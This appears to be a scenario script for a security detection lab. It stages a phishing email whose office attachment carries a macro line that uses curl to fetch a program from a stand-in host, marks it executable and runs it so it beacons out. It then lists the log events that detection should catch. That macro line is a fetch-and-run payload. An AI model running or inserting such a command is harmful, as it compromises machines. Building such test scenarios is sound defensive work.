# The document is opened as it should be; what it holds starts a shell.
title="Office document starts a shell that fetches and runs a program"
what="The clerk opens forecast.fodt from Thunderbird in the office program; its macro starts sh, which fetches a program with curl into ~/.cache, makes it executable and runs it; it connects to 203.0.113.66."
host=ws3.example.org user=clerk daemons="cron"
stand_ins=("/usr/lib/thunderbird/thunderbird is a small program that reads the Maildir and opens the attachment as Thunderbird does" "/usr/lib/libreoffice/program/soffice.bin stands in for the office program: it reads the document and hands the macro's line to a shell")

setup() {
  compile thunderbird /usr/lib/thunderbird/thunderbird; compile office /usr/lib/libreoffice/program/soffice.bin
  printf '<office:document>\nMACRO:mkdir -p ~/.cache/fc; curl -s -o ~/.cache/fc/r http://drop.example.net/fc/r; chmod +x ~/.cache/fc/r; ~/.cache/fc/r 203.0.113.66 8443\n</office:document>\n' > "$base/out/forecast.fodt"
  mkdir -p "$base/out/www/fc"; cc -O1 -o "$base/out/www/fc/r" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 2
  mail_in --from controlling@example.net --to clerk@example.org --subject "Forecast" --attach "$base/out/forecast.fodt:application/octet-stream"
  wait_log 'from=<controlling@example.net>'; wait_mail clerk 1; sleep 1
  desktop_as clerk -- /usr/lib/thunderbird/thunderbird --open forecast.fodt /usr/lib/libreoffice/program/soffice.bin; desktop_wait
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message is delivered'
  exec_step open 'soffice.bin .*forecast.fodt' 'the document is opened'
  exec_step shell 'sh -c .*curl' 'its macro starts a shell'
  exec_step execute 'fc/r 203.0.113.66' 'which runs what it fetched'
  net_step beacon 'r 203.0.113.66:8443' 'and that calls out'
}
